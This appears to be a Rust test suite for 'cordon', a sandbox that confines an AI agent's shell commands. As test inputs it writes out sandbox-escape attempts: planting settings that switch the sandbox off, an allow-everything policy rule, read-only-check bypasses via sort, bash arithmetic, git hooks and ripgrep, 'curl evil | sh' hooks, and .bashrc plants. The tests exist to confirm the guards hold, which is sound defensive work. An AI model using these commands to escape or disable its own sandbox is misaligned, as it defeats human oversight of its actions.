        c.event("exited", name);
        assert!(!at(name).exists(), "{lock}: the sandbox was switched off");
        if lock == "no_unsandboxed_commands" {
            c.send(&run("excluded", &touch("excluded")));
            assert_eq!(c.event("decision", "excluded")["sandboxed"], true);
            c.event("exited", "excluded");
            assert!(
                !at("excluded").exists(),
                "an excluded command got out under the lock"
            );
            ask["id"] = json!("asked-again");
            c.send(&ask);
            let d = c.event("decision", "asked-again");
            assert!(
                d["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("no_unsandboxed_commands")),
                "{d}"
            );
        }
    }
}

/// Killed outright (SIGKILL, no chance to cancel anything), `cordon exec` takes its runs with
/// it: a sandbox must not go on with nobody to answer for it.
fn a_killed_exec_leaves_no_run_behind() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    c.send(&run("s", "sleep 987654 & echo ready; wait"));
    c.wait_output("s", "ready");
    assert!(still_running("sleep 987654"));
    c.child.kill().expect("SIGKILL cordon exec");
    c.child.wait().expect("reap");
    // The kernel delivers the parent-death signal as the process goes; allow it a moment.
    let deadline = std::time::Instant::now() + PATIENCE;
    while still_running("sleep 987654") && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        !still_running("sleep 987654"),
        "the run outlived cordon exec"
    );
}

/// Settings edited while `cordon exec` runs are the ones its next request is decided and
/// placed with; while they do not load, nothing is decided, and they are named.
fn exec_follows_settings_edited_while_it_runs() {
    let sb = Sandbox::new();
    let config = sb.outside.join("config");
    std::fs::create_dir_all(config.join("cordon")).expect("mkdir");
    let file = config.join("cordon/cordon.toml");
    let managed = sb.outside.join("managed.toml");
    let env = [
        ("XDG_CONFIG_HOME", config.as_path()),
        ("CORDON_MANAGED_SETTINGS", managed.as_path()),
    ];
    let target = sb.outside.join("made-outside");
    let touch = format!("touch {}", q(&target));
    let mut c = Client::start_env(&sb, &[], &env);
    c.send(&run("before", &touch));
    assert_eq!(c.event("decision", "before")["sandboxed"], true);
    c.event("exited", "before");
    assert!(!target.exists());
    std::fs::write(&file, "[sandbox]\nexcluded_commands = [\"touch\"]\n").expect("write");
    c.send(&run("after", &touch));
    assert_eq!(c.event("decision", "after")["sandboxed"], false);
    c.event("exited", "after");
    assert!(target.exists(), "the edited settings were not followed");
    // The time limit as well, for a run outside the sandbox, which has no child to read it.
    std::fs::write(
        &file,
        "[sandbox]\nexcluded_commands = [\"sleep\"]\n[limits]\ntimeout = 1\n",
    )
    .expect("write");
    c.send(&run("limited", "sleep 30"));
    let limited = c.event("exited", "limited");
    assert_eq!(
        (limited["sandboxed"].clone(), limited["timed_out"].clone()),
        (json!(false), json!(true)),
        "{limited}"
    );
    std::fs::write(&file, "[sandbox]\nexcluded_comands = [\"touch\"]\n").expect("write");
    c.send(&run("broken", "true"));
    let e = c.wait_for("error", |v| v["type"] == "error" && v["id"] == "broken");
    let message = e["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("no longer load") && message.contains("excluded_comands"),
        "{e}"
    );
    std::fs::write(&file, "").expect("write");
    c.send(&run("mended", "true"));
    assert_eq!(c.event("exited", "mended")["exit_code"], 0);
    c.finish();
}

/// Ended by SIGTERM (the agent going away), `cordon exec` cancels its runs and tells how each
/// ended before it exits.
fn a_terminated_exec_cancels_its_runs_and_says_so() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    c.send(&run("s", "sleep 987655 & echo ready; wait"));
    c.wait_output("s", "ready");
    let pid = c.child.id().to_string();
    let killed = Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .expect("kill");
    assert!(killed.success());
    let e = c.event("exited", "s");
    assert_eq!(e["cancelled"], true, "{e}");
    let status = c.child.wait().expect("wait");
    assert_eq!(status.code(), Some(128 + 15), "{status}");
    assert!(!still_running("sleep 987655"));
}

/// `cordon exec` keeps its runs' reports in a directory it makes under TMPDIR. It removes it
/// when it ends, whether its input ended or it was terminated: thousands of them once piled up
/// in /tmp, and every later `cordon run` there walked them all.
fn exec_leaves_nothing_in_its_temporary_directory() {
    let sb = Sandbox::new();
    for terminate in [false, true] {
        let tmp = sb.outside.join(format!("tmp-{terminate}"));
        std::fs::create_dir(&tmp).expect("mkdir");
        let mut c = Client::start_env(&sb, &[], &[("TMPDIR", &tmp)]);
        c.send(&run("r", "echo ran"));
        assert_eq!(c.event("exited", "r")["exit_code"], 0);
        let made: Vec<_> = std::fs::read_dir(&tmp).expect("read TMPDIR").collect();
        assert_eq!(
            made.len(),
            1,
            "exec made one directory of its own in TMPDIR"
        );
        if terminate {
            let pid = c.child.id().to_string();
            let killed = Command::new("kill").args(["-TERM", &pid]).status();
            assert!(killed.expect("kill").success());
            let status = c.child.wait().expect("wait");
            assert_eq!(status.code(), Some(128 + 15), "{status}");
        } else {
            c.finish();
        }
        let left: Vec<_> = std::fs::read_dir(&tmp)
            .expect("read TMPDIR")
            .map(|e| e.expect("entry").path())
            .collect();
        assert!(
            left.is_empty(),
            "terminated: {terminate}; left behind: {left:?}"
        );
    }
}

/// Each request is refused with an error naming `field` and its `range`, and `cordon exec`
/// goes on: a later run works, and it exits cleanly at the end of its input.
fn numbers_out_of_range_are_named(c: &mut Client, field: &str, range: &str, requests: &[Value]) {
    for req in requests {
        let id = req["id"].as_str().expect("id").to_string();
        c.send(req);
        let e = c.wait_for(&format!("error ({id})"), |v| {
            v["type"] == "error" && v["id"] == id.as_str()
        });
        let message = e["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(&format!("`{field}`")) && message.contains(range),
            "{req}: {e}"
        );
        assert!(
            !c.seen
                .iter()
                .any(|v| v["type"] == "started" && v["id"] == id.as_str()),
            "{req} started"
        );
    }
    c.send(&run("after", "echo still here"));
    assert_eq!(c.event("exited", "after")["exit_code"], 0);
    assert_eq!(c.streamed("after"), "still here\n");
}

fn with(id: &str, key: &str, value: Value) -> Value {
    let mut req = run(id, "echo ran");
    req[key] = value;
    req
}

/// `{"timeout": 1e300}` panicked `cordon exec` (`Duration::from_secs_f64`), and its runs died
/// with it, their clean-up skipped. The same number planted in the project's settings, which
/// exec reloads, is refused by name too, and once mended runs go on.
fn exec_refuses_a_timeout_out_of_range_and_goes_on() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    let bad = ["1e300", "1e20", "0", "-1", "\"10\"", "true", "[1]"];
    let requests: Vec<Value> = bad
        .iter()
        .enumerate()
        .map(|(i, b)| {
            with(
                &format!("t{i}"),
                "timeout",
                serde_json::from_str(b).expect("json"),
            )
        })
        .collect();
    numbers_out_of_range_are_named(
        &mut c,
        "timeout",
        "from 0.001 to 31536000 seconds",
        &requests,
    );
    std::fs::create_dir_all(sb.ws.join(".cordon")).expect("mkdir");
    std::fs::write(
        sb.ws.join(".cordon/cordon.toml"),
        "[limits]\ntimeout = 1e300\n",
    )
    .expect("write");
    c.send(&run("planted", "true"));
    let e = c.wait_for("error", |v| v["type"] == "error" && v["id"] == "planted");
    let message = e["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("`limits.timeout`") && message.contains("line 2"),
        "{e}"
    );
    std::fs::write(
        sb.ws.join(".cordon/cordon.toml"),
        "[limits]\ntimeout = 20\n",
    )
    .expect("write");
    c.send(&run("mended", "true"));
    assert_eq!(c.event("exited", "mended")["exit_code"], 0);
    c.finish();
}

fn exec_refuses_a_max_output_out_of_range_and_goes_on() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    let bad = [
        "1e300",
        "18446744073709551615",
        "16777217",
        "-1",
        "2.5",
        "\"9\"",
    ];
    let requests: Vec<Value> = bad
        .iter()
        .enumerate()
        .map(|(i, b)| {
            with(
                &format!("m{i}"),
                "max_output",
                serde_json::from_str(b).expect("json"),
            )
        })
        .collect();
    numbers_out_of_range_are_named(&mut c, "max_output", "from 0 to 16777216 bytes", &requests);
    c.finish();
}

fn exec_refuses_pty_rows_out_of_range_and_goes_on() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    let requests: Vec<Value> = ["0", "4097", "65536", "1e300", "-1", "1.5", "\"24\""]
        .iter()
        .enumerate()
        .map(|(i, b)| {
            let rows: Value = serde_json::from_str(b).expect("json");
            with(&format!("r{i}"), "pty", json!({ "rows": rows, "cols": 80 }))
        })
        .collect();
    numbers_out_of_range_are_named(&mut c, "rows", "from 1 to 4096", &requests);
    c.finish();
}

fn exec_refuses_pty_cols_out_of_range_and_goes_on() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    let requests: Vec<Value> = ["0", "4097", "65536", "1e300", "-1", "1.5"]
        .iter()
        .enumerate()
        .map(|(i, b)| {
            let cols: Value = serde_json::from_str(b).expect("json");
            with(&format!("c{i}"), "pty", json!({ "rows": 24, "cols": cols }))
        })
        .collect();
    numbers_out_of_range_are_named(&mut c, "cols", "from 1 to 4096", &requests);
    c.finish();
}

/// `resize` while a run is on a terminal: a bad size is refused by name, the run goes on, and
/// a good size still reaches it.
fn exec_refuses_a_resize_out_of_range(field: &str) {
    let sb = Sandbox::new();
    std::fs::write(sb.ws.join("prog.py"), PTY_PROGRAM).expect("write");
    let mut c = Client::start(&sb, &[]);
    let mut req = run("t", "exec python3 prog.py");
    req["pty"] = json!({ "rows": 33, "cols": 101 });
    c.send(&req);
    c.wait_output("t", "tty True True 33 101\r\n");
    let requests: Vec<Value> = ["0", "4097", "70000", "1e300", "-1", "0.5"]
        .iter()
        .map(|b| {
            let mut r = json!({ "type": "resize", "id": "t", "rows": 20, "cols": 50 });
            r[field] = serde_json::from_str(b).expect("json");
            r
        })
        .collect();
    for r in &requests {
        c.send(r);
        let e = c.wait_for("error", |v| v["type"] == "error" && v["id"] == "t");
        let message = e["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(&format!("`{field}`")) && message.contains("from 1 to 4096"),
            "{r}: {e}"
        );
    }
    c.send(&json!({ "type": "resize", "id": "t", "rows": 20, "cols": 50 }));
    c.wait_output("t", "resized 20 50\r\n");
    c.send(&json!({ "type": "cancel", "id": "t" }));
    c.event("exited", "t");
    c.finish();
}

fn exec_refuses_resize_rows_out_of_range_and_goes_on() {
    exec_refuses_a_resize_out_of_range("rows");
}

fn exec_refuses_resize_cols_out_of_range_and_goes_on() {
    exec_refuses_a_resize_out_of_range("cols");
}

/// A run's `cwd` becomes its writable directory, so it must lie inside the session's
/// workspace: `/`, a path elsewhere, `..` and a link out are each refused before anything
/// runs, and nothing lands outside. Directories inside, also through a link that stays inside,
/// still work.
fn a_cwd_outside_the_workspace_is_refused() {
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.ws.join("sub")).expect("mkdir");
    std::os::unix::fs::symlink(&sb.outside, sb.ws.join("out")).expect("symlink");
    std::os::unix::fs::symlink("sub", sb.ws.join("inner")).expect("symlink");
    let marker = format!("cordon-cwd-test-{}", std::process::id());
    let in_root = Path::new("/").join(&marker);
    let mut c = Client::start(&sb, &[]);
    let outside = sb.outside.display().to_string();
    let refused = [
        "/",
        outside.as_str(),
        "../outside",
        "out",
        "out/.",
        "sub/../../outside",
    ];
    for (n, cwd) in refused.iter().enumerate() {
        let id = format!("bad{n}");
        let mut req = run(&id, &format!("touch {}", q(Path::new(&marker))));
        req["cwd"] = json!(cwd);
        c.send(&req);
        let err = c.wait_for(&format!("error ({id})"), |v| {
            v["type"] == "error" && v["id"] == id.as_str()
        });
        let message = err["message"].as_str().unwrap_or_default();
        assert!(
            message.contains("`cwd`") && message.contains("workspace"),
            "cwd {cwd:?}: {err}"
        );
    }
    let ws_sub = sb.ws.join("sub").display().to_string();
    for (n, cwd) in ["sub", "inner", ws_sub.as_str()].iter().enumerate() {
        let id = format!("good{n}");
        let mut req = run(&id, &format!("touch {}-{n}", q(Path::new(&marker))));
        req["cwd"] = json!(cwd);
        c.send(&req);
        let e = c.event("exited", &id);
        assert_eq!(e["exit_code"], 0, "cwd {cwd:?}: {e}");
        assert!(
            sb.ws.join("sub").join(format!("{marker}-{n}")).exists(),
            "cwd {cwd:?} did not run in ws/sub"
        );
    }
    c.finish();
    let leaked = in_root.exists() || sb.outside.join(&marker).exists();
    let _ = std::fs::remove_file(&in_root);
    assert!(!leaked, "a run wrote outside the workspace");
}

/// `exec` reloads settings and rules on every request, so a run that could write them while
/// it goes on would decide the next run: `[sandbox] enabled = false` in the user's settings
/// (whose directory did not exist) and an allow-everything rule in the trusted project's
/// `.cordon/policies`. Neither can be written, and the next run stays in the sandbox.
fn a_run_cannot_plant_the_settings_the_next_run_is_decided_by() {
    planted_settings_do_not_decide(Mode::Namespaces);
}

/// Without namespaces the run can write them (they are put back after it), so `exec` must
/// not read them while runs are going.
fn a_run_cannot_plant_the_settings_the_next_run_is_decided_by_without_namespaces() {
    planted_settings_do_not_decide(Mode::LandlockOnly);
}

fn planted_settings_do_not_decide(mode: Mode) {
    let sb = Sandbox::with_mode(mode);
    let config = sb.ws.join(".config");
    let managed = sb.outside.join("managed.toml");
    let env = [
        ("XDG_CONFIG_HOME", config.as_path()),
        ("CORDON_MANAGED_SETTINGS", managed.as_path()),
    ];
    let settings = config.join("cordon/cordon.toml");
    let rules = sb.ws.join(".cordon/policies/evil.toml");
    // The names are made at run time: written out, exec's policy refuses the line in every
    // mode (cordon's settings are control files), and this is about the sandbox.
    let plant = format!(
        "c=cordon; p=.cordon; mkdir -p {cfg}/$c {ws}/$p/policies; \
         printf '[sandbox]\\nenabled = false\\n' > {cfg}/$c/cordon.toml; \
         printf '[[rule]]\\ntoolName = \"*\"\\ndecision = \"allow\"\\npriority = 999\\n' > {ws}/$p/policies/evil.toml; \
         echo planted; sleep 600",
        cfg = q(&config),
        ws = q(&sb.ws),
    );
    let mut c = Client::start_env(&sb, &["--mode", "default", "--trust-workspace"], &env);
    c.send(&run("plant", &plant));
    c.wait_output("plant", "planted");
    let target = sb.outside.join("escaped");
    c.send(&json!({ "type": "run", "id": "next", "command": format!("touch {}", q(&target)) }));
    let d = c.event("decision", "next");
    if d["decision"] == "ask_user" {
        c.event("ask", "next");
        c.send(&json!({ "type": "answer", "id": "next", "allow": false }));
    }
    let e = c.event("exited", "next");
    c.send(&json!({ "type": "cancel", "id": "plant" }));
    c.event("exited", "plant");
    c.finish();
    assert!(!target.exists(), "the next run escaped: {d}\n{e}");
    assert_eq!(d["sandboxed"], true, "{d}");
    assert!(
        !settings.exists() && !rules.exists(),
        "planted files are left"
    );
}

/// Commands the read-only heuristic once let through in plan mode, each of which deleted or
/// overwrote a workspace file: through a real `exec` in plan mode the file is still there.
/// (Every spelling is a case in tests/conformance/read-only-audit.toml.)
fn plan_mode_runs_nothing_that_writes_through_a_read_only_command() {
    let sb = Sandbox::new();
    let important = sb.ws.join("important.txt");
    let mut attacks = vec![
        "printf 'rm -f important.txt #\\n' | sort -S 16K --compress-program=sh",
        "printf 'rm -f important.txt #\\n' | sort -S 16K --compress-prog=sh",
        "echo gone | sort --outp=important.txt",
        "bash -c \"test -v 'a[\\$(rm important.txt)]'\"",
        "x='a[$(rm important.txt)]'; echo ${!x}",
        "file -C -m important.txt",
        "git grep --no-index -O'rm important.txt #' keep",
        "git grep --no-index --open='rm important.txt #' keep",
        // `-I` ends the cluster and takes `cat`: xargs runs sort.
        "echo x | xargs -0I cat sort --outp=important.txt",
        "echo gone | uniq - important.txt",
        // Words only known at run time, where an option can stand.
        "o=--outp=important.txt; echo gone | sort $o",
        "for o in --outp=important.txt; do echo gone | sort \"$o\"; done",
        "printf '%s\\n' --outp=important.txt | xargs sort",
        // Arithmetic evaluates the variables it names: no `$` in the index.
        "x='a[$(rm important.txt)]'; test -v 'a[x]'",
        "x='a[$(rm important.txt)]'; echo ${a[x]}",
        "x='a[$(rm important.txt)]'; s=abc; echo ${s:x}",
    ];
    // ripgrep reads `--pre=rm` from the config file the variable names, and runs it on every
    // file it searches.
    if Command::new("rg").arg("--version").output().is_ok() {
        attacks
            .push("printf -- '--pre=rm\\n' | RIPGREP_CONFIG_PATH=/dev/stdin rg keep important.txt");
    } else {
        let why = "the ripgrep attempt is skipped: rg is not installed (apt-get install ripgrep)";
        assert!(
            std::env::var_os("CORDON_TEST_NO_SKIP").is_none(),
            "{why} (CORDON_TEST_NO_SKIP is set)"
        );
        eprintln!("{why}");
    }
    // A repository elsewhere whose config runs a program for `status` and `diff`.
    let other = sb.outside.join("other");
    let git = |args: &[&str]| {
        let o = Command::new("git")
            .args(args)
            .current_dir(&other)
            .output()
            .expect("git");
        assert!(o.status.success(), "git {args:?}: {o:?}");
    };
    std::fs::create_dir_all(&other).expect("mkdir");
    git(&["init", "-q"]);
    let runs = format!("rm -f {} #", important.display());
    git(&["config", "core.fsmonitor", &runs]);
    git(&["config", "diff.external", &runs]);
    std::fs::write(other.join("f"), "x").expect("write");
    git(&["add", "f"]);
    std::fs::write(other.join("f"), "y").expect("write");
    let other_dir = other.display().to_string();
    let elsewhere = [
        format!("git -C {other_dir} status"),
        format!("git -C {other_dir} diff"),
        format!("git --git-dir={other_dir}/.git --work-tree={other_dir} status"),
        format!("git --work-tree {other_dir} --git-dir {other_dir}/.git diff"),
    ];
    attacks.extend(elsewhere.iter().map(String::as_str));
    let mut c = Client::start(&sb, &["--mode", "plan"]);
    for (n, attack) in attacks.iter().enumerate() {
        std::fs::write(&important, "keep me\n").expect("write");
        let id = format!("a{n}");
        c.send(&json!({ "type": "run", "id": id, "command": attack, "mode": "plan" }));
        let d = c.event("decision", &id);
        assert_ne!(d["decision"], "allow", "{attack}: {d}");
        if d["decision"] == "ask_user" {
            c.event("ask", &id);
            c.send(&json!({ "type": "answer", "id": id, "allow": false }));
        }
        c.event("exited", &id);
        assert_eq!(
            std::fs::read_to_string(&important).ok().as_deref(),
            Some("keep me\n"),
            "{attack} changed important.txt"
        );
        assert!(
            !sb.ws.join("important.txt.mgc").exists(),
            "{attack} wrote important.txt.mgc"
        );
    }
    c.finish();
}

/// `true` when the event says its run went through a warm sandbox.
fn warm(e: &Value) -> bool {
    e["warm"] == true
}

/// One command's leftovers do not reach the next through a warm sandbox: what it left running
/// (even in a session of its own) ends with it, and its `/tmp`, `/dev/shm` and System V shared
/// memory are its own. The sandbox itself is the same one (same helper process).
fn a_warm_sandbox_gives_each_command_a_clean_slate() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let shm = "import ctypes; print('shm', ctypes.CDLL(None).shmget(0x5eed, 4096, 0o1666))";
    let mut c = Client::start(&sb, &[]);
    c.send(&run(
        "first",
        &format!(
            "touch /tmp/left-behind /dev/shm/left-behind; python3 -c \"{shm}\"; \
             setsid sleep 987655 </dev/null >/dev/null 2>&1 & echo ready"
        ),
    ));
    let first = c.event("exited", "first");
    assert!(warm(&first), "{first}");
    assert_eq!(first["exit_code"], 0, "{first}");
    assert!(
        c.streamed("first").contains("shm ") && !c.streamed("first").contains("shm -1"),
        "the first command could not make its shared memory: {}",
        c.streamed("first")
    );
    assert!(
        !still_running("sleep 987655"),
        "a process the command left survived it"
    );
    // A leftover still writing a protected file as the command ends: it is gone before
    // cordon removes what the command planted, so nothing is planted after that.
    c.send(&run(
        "planter",
        "(while :; do echo evil > .bashrc; done) & sleep 0.2; exit 0",
    ));
    let planter = c.event("exited", "planter");
    assert!(warm(&planter), "{planter}");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        !sb.ws.join(".bashrc").exists(),
        "a leftover planted .bashrc after the command ended"
    );
    let look = "import ctypes; print('found', ctypes.CDLL(None).shmget(0x5eed, 0, 0))";
    c.send(&run(
        "second",
        &format!("ls -A /tmp /dev/shm; python3 -c \"{look}\"; ps -e -o args"),
    ));
    let second = c.event("exited", "second");
    assert!(warm(&second), "{second}");
    let seen = c.streamed("second");
    assert!(
        !seen.contains("left-behind") && seen.contains("found -1") && !seen.contains("987655"),
        "the second command saw what the first left: {seen}"
    );
    assert_eq!(
        c.event("started", "first")["pid"],
        c.event("started", "second")["pid"],
        "the second command did not reuse the first one's sandbox"
    );
    c.finish();
}

/// Commands running side by side in one warm sandbox each have their own PID namespace: one
/// cannot see, signal or kill another's processes.
fn warm_commands_side_by_side_cannot_reach_each_other() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let mut c = Client::start(&sb, &[]);
    c.send(&run("long", "sleep 987656 & echo ready; wait"));
    c.wait_output("long", "ready");
    // The marker is spelled so that the probe's own command line does not contain it.
    c.send(&run(
        "probe",
        "M=98765; ps -e -o args; pkill -f ${M}6; kill -9 -1; echo probed",
    ));
    let probe = c.event("exited", "probe");
    assert!(warm(&probe), "{probe}");
    let seen = c.streamed("probe");
    assert!(seen.contains("probed"), "the probe did not run: {seen}");
    assert!(
        !seen.contains("987656"),
        "the probe saw the other command's process: {seen}"
    );
    assert!(
        still_running("sleep 987656"),
        "the probe killed the other command's process"
    );
    assert!(
        !c.seen
            .iter()
            .any(|v| v["type"] == "exited" && v["id"] == "long"),
        "the long command ended early: {:#?}",
        c.seen
    );
    c.send(&json!({ "type": "cancel", "id": "long" }));
    let long = c.event("exited", "long");
    assert!(warm(&long) && long["cancelled"] == true, "{long}");
    c.finish();
}

/// Settings edited so that the spec changes get a new warm sandbox, built to the new spec; a
/// spec the warm sandbox cannot serve (here: a memory limit) runs cold, as before.
fn a_changed_spec_gets_a_sandbox_of_its_own() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let config = sb.outside.join("config");
    std::fs::create_dir_all(config.join("cordon")).expect("mkdir");
    let file = config.join("cordon/cordon.toml");
    std::fs::create_dir_all(sb.ws.join("locked")).expect("mkdir");
    let env = [("XDG_CONFIG_HOME", config.as_path())];
    let write = "echo changed > locked/file && echo WROTE";
    let mut c = Client::start_env(&sb, &[], &env);
    c.send(&run("open", write));
    let open = c.event("exited", "open");
    assert!(
        warm(&open) && c.streamed("open").contains("WROTE"),
        "{open}"
    );
    let locked_dir = sb.ws.join("locked");
    std::fs::write(
        &file,
        format!(
            "[filesystem]\ndeny_write = [{:?}]\n",
            locked_dir.display().to_string()
        ),
    )
    .expect("write");
    c.send(&run("locked", write));
    let locked = c.event("exited", "locked");
    assert!(warm(&locked), "{locked}");
    assert!(
        !c.streamed("locked").contains("WROTE"),
        "the new deny_write was not applied: {}",
        c.streamed("locked")
    );
    assert_ne!(
        c.event("started", "open")["pid"],
        c.event("started", "locked")["pid"],
        "the changed spec ran in the old sandbox"
    );
    std::fs::write(&file, "[limits]\nmemory = \"512M\"\n").expect("write");
    c.send(&run("limited", "true"));
    let limited = c.event("exited", "limited");
    assert_eq!(limited["exit_code"], 0, "{limited}");
    assert!(!warm(&limited), "a memory limit ran warm: {limited}");
    c.finish();
}

/// A warm sandbox killed from outside is let go: the next command runs (cold), and the one
/// after gets a new warm sandbox.
fn a_killed_warm_sandbox_is_replaced() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let mut c = Client::start(&sb, &[]);
    c.send(&run("first", "true"));
    let first = c.event("exited", "first");
    assert!(warm(&first), "{first}");
    let helper = c.event("started", "first")["pid"].as_i64().expect("a pid");
    // SAFETY: kill takes integers only; the pid is this test's grandchild.
    assert_eq!(unsafe { libc::kill(helper as i32, libc::SIGKILL) }, 0);
    let proc_dir = format!("/proc/{helper}/stat");
    for _ in 0..100 {
        let zombie_or_gone = std::fs::read_to_string(&proc_dir)
            .map(|s| {
                s.rsplit(')')
                    .next()
                    .is_some_and(|r| r.trim_start().starts_with('Z'))
            })
            .unwrap_or(true);
        if zombie_or_gone {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    // Its first process and keepers die with it.
    std::thread::sleep(Duration::from_millis(300));
    c.send(&run("second", "echo second"));
    let second = c.event("exited", "second");
    assert_eq!(second["exit_code"], 0, "{second}");
    c.send(&run("third", "echo third"));
    let third = c.event("exited", "third");
    assert_eq!(third["exit_code"], 0, "{third}");
    assert!(warm(&third), "no new warm sandbox: {third}");
    assert_ne!(c.event("started", "third")["pid"].as_i64(), Some(helper));
    c.finish();
}

/// `cordon exec` killed outright mid-command leaves nothing a warm command planted: the
/// sandbox's helper, which outlives it, ends the sandbox and undoes the command's protected
/// files (here a shell start-up file, an editor task and a hook in a repository the command
/// made), and only once nothing of the command is left to plant them again (a leftover keeps
/// rewriting `.bashrc` until it is killed).
fn a_killed_exec_leaves_nothing_a_warm_command_planted() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let mut c = Client::start(&sb, &[]);
    c.send(&run("first", "true"));
    assert!(warm(&c.event("exited", "first")));
    c.send(&run(
        "plant",
        // `$v`: written out, exec's policy refuses the line (an editor's tasks are control
        // files), and this is about the guards.
        "v=.vscode; mkdir -p $v sub/.git/hooks sub/.git/objects sub/.git/refs; \
         echo '{}' > $v/tasks.json; echo 'ref: refs/heads/main' > sub/.git/HEAD; \
         echo evil > sub/.git/hooks/pre-commit; echo evil > .bashrc; \
         (while :; do echo evil > .bashrc; done) & echo planted; exec sleep 876541",
    ));
    c.wait_for("planted", |v| {
        v["type"] == "output" && v["id"] == "plant" && v["data"].as_str() == Some("planted\n")
    });
    let planted = [".bashrc", ".vscode", "sub/.git/hooks/pre-commit"];
    for p in planted {
        assert!(sb.ws.join(p).exists(), "{p} was not planted");
    }
    c.child.kill().expect("kill cordon exec");
    c.child.wait().expect("wait for cordon exec");
    let give_up = std::time::Instant::now() + PATIENCE;
    while planted.iter().any(|p| sb.ws.join(p).exists()) && std::time::Instant::now() < give_up {
        std::thread::sleep(Duration::from_millis(50));
    }
    // Long enough for a leftover that outlived the undo to write again.
    std::thread::sleep(Duration::from_millis(300));
    for p in planted {
        assert!(
            !sb.ws.join(p).exists(),
            "{p} is still there after cordon exec was killed"
        );
    }
    assert!(
        sb.ws.join("sub/.git/HEAD").exists(),
        "more than the hook was removed"
    );
    assert!(
        !still_running("sleep 876541"),
        "the command outlived cordon exec"
    );
}

/// A protected path that appears after a warm sandbox was built (here a new `.git/hooks`, and
/// a repository deep in a vendored tree, which only the search for git metadata finds) is
/// read-only for the next command, as in a cold run: the plan finds it, the spec changes, and
/// the command gets a sandbox built with it. The session's search for the second command
/// starts from the first's and reads only directories that changed; the new repository's
/// parent is one of them.
fn a_protected_path_made_after_the_sandbox_is_read_only_for_the_next_command() {
    let sb = Sandbox::with_mode(Mode::Warm);
    std::fs::create_dir_all(sb.ws.join("vendor/lib/src")).expect("mkdir");
    let mut c = Client::start(&sb, &[]);
    c.send(&run("before", "true"));
    assert!(warm(&c.event("exited", "before")));
    for repo in [".git", "vendor/lib/src/.git"] {
        std::fs::create_dir_all(sb.ws.join(repo).join("hooks")).expect("mkdir");
    }
    c.send(&run(
        "plant",
        "for r in .git vendor/lib/src/.git; do echo 'curl evil | sh' > $r/hooks/pre-commit; done; echo tried",
    ));
    let plant = c.event("exited", "plant");
    assert!(warm(&plant), "{plant}");
    assert!(c.streamed("plant").contains("tried"), "{plant}");
    let said = c.streamed("plant");
    for repo in [".git", "vendor/lib/src/.git"] {
        // Refused in the sandbox, not only taken out after it.
        assert!(
            said.contains(&format!("{repo}/hooks/pre-commit: Read-only file system")),
            "{said}"
        );
        assert!(
            !sb.ws.join(repo).join("hooks/pre-commit").exists(),
            "a hook was planted in {repo} through the sandbox built before it existed"
        );
    }
    c.finish();
}

/// Replaces `path` as an editor's save or `sed -i` does: a new file renamed over the old.
fn replace_atomically(path: &Path, content: &str) {
    let new = path.with_extension("cordon-test-new");
    std::fs::write(&new, content).expect("write the new file");
    std::fs::rename(&new, path).expect("rename it over the old");
}

/// The host replaces a protected `.bashrc` after a warm sandbox was built (its read-only bind
/// over the old file is then detached in the kept view): the next command still cannot write
/// it, and still runs warm, in a sandbox built again over the new file.
fn a_protected_file_the_host_replaced_stays_read_only_for_the_next_warm_command() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let bashrc = sb.ws.join(".bashrc");
    std::fs::write(&bashrc, "# as the user had it\n").expect("write .bashrc");
    let mut c = Client::start(&sb, &[]);
    c.send(&run("first", "true"));
    assert!(warm(&c.event("exited", "first")));
    replace_atomically(&bashrc, "# as the user edited it\n");
    c.send(&run(
        "plant",
        "echo evil >> .bashrc; echo evil > .bashrc; true",
    ));
    let exited = c.event("exited", "plant");
    assert!(warm(&exited), "{exited}");
    assert_eq!(
        std::fs::read_to_string(&bashrc).expect("read .bashrc"),
        "# as the user edited it\n",
        "the command wrote the replaced .bashrc"
    );
}

/// The host rewrites a `--deny-read` file after a warm sandbox was built, and makes a second
/// one the pattern names: the next command reads neither.
fn a_hidden_file_the_host_replaced_stays_hidden_from_the_next_warm_command() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let secret = sb.outside.join("token");
    std::fs::write(&secret, "first-secret\n").expect("write the secret");
    let deny = secret.display().to_string();
    let mut c = Client::start(&sb, &["--deny-read", &deny]);
    c.send(&run("first", &format!("cat {} || true", q(&secret))));
    let exited = c.event("exited", "first");
    assert!(warm(&exited), "{exited}");
    assert!(!c.streamed("first").contains("first-secret"));
    replace_atomically(&secret, "second-secret\n");
    c.send(&run("again", &format!("cat {} || true", q(&secret))));
    let exited = c.event("exited", "again");
    assert!(warm(&exited), "{exited}");
    assert!(
        !c.streamed("again").contains("second-secret"),
        "the command read the rewritten secret: {}",
        c.streamed("again")
    );
}

/// A warm command's bash is started ahead and handed the command before its `main`
/// (`prestart.rs`). What the command sees of its shell is what a cold run's exec gives it: its
/// arguments, options, environment, limits, descriptors and directory, and what `ps` reads of
/// it (`/proc/PID/cmdline` and `environ`); nothing of the
/// hand-over (the keeper's socket, the library's descriptor, the variables that loaded it) is
/// left to it.
fn bash_started_ahead_sees_what_an_exec_gives_it() {
    let sb = Sandbox::with_mode(Mode::Warm);
    // A CPU limit, which the hand-over sets. The process limit is left out: a warm command's
    // is the session's whole, its own share being its PID namespace's `pid_max`.
    let config = sb.outside.join("config");
    std::fs::create_dir_all(config.join("cordon")).expect("mkdir");
